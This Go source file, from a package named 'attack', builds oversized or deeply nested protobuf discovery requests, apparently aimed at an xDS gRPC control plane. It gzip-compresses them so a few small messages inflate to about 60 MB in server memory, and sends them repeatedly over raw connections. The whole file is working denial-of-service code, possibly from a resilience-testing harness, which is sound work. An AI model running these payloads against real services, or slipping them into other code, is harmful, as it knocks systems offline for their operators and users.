//go:build linux

package attack

import (
	"bytes"
	"compress/gzip"
	"context"
	"fmt"
	"time"

	"google.golang.org/protobuf/encoding/protowire"
)

// The attacks by requests that are small on the wire, and more than that in memory.

// in is a field that holds bytes.
func in(n protowire.Number, b []byte) []byte {
	return protowire.AppendBytes(protowire.AppendTag(nil, n, protowire.BytesType), b)
}

// fromNode is a request of a node with a list in its metadata; the list stands at the end.
func fromNode(list []byte) []byte {
	entry := append(in(1, []byte("a")), in(2, in(6, list))...) // Struct.fields: Value.list_value
	return in(1, in(3, in(1, entry)))                          // DeltaDiscoveryRequest.node, Node.metadata
}

// hugeNode has so many empty values in the list: two bytes each, on the wire.
func hugeNode(values int) []byte { return fromNode(bytes.Repeat([]byte{0x0a, 0}, values)) }

// nested has a list in the list, and so on, so many levels deep.
func nested(levels int) []byte {
	var list []byte
	for range levels {
		list = in(1, in(6, list)) // ListValue.values, Value.list_value
	}
	return fromNode(list)
}

// gzipped is what can stand behind another one of its kind.
func gzipped(b []byte) []byte {
	var small bytes.Buffer
	z, _ := gzip.NewWriterLevel(&small, gzip.BestCompression) // there is such a level, and a buffer takes everything
	_, _ = z.Write(b)
	_ = z.Close()
	return small.Bytes()
}

// inflated sends compressed requests that are small on the wire and large in memory.
func inflated(ctx context.Context, at *target) (string, error) {
	const size = 60 << 20
	message := hugeNode(size / 2)
	values := len(message) - size // where these begin
	small := append(gzipped(message[:values]), bytes.Repeat(gzipped(message[values:values+1<<20]), size>>20)...)
	said := ""
	for range 4 {
		r, err := dialRaw(ctx, at)
		if err != nil {
			return "", err
		}
		id, err := r.open(deltaMethod, "grpc-encoding", "gzip")
		if err == nil {
			_ = r.data(id, envelope(small, true)) // it may be refused before all is sent
		}
		for said == "" && ctx.Err() == nil {
			if v, ok := r.status.Load(id); ok {
				said = v.(string)
			} else {
				pause(ctx, 10*time.Millisecond)
			}
		}
	}
	<-ctx.Done()
	return fmt.Sprintf("%d bytes each; told: %s", len(small), said), nil
}
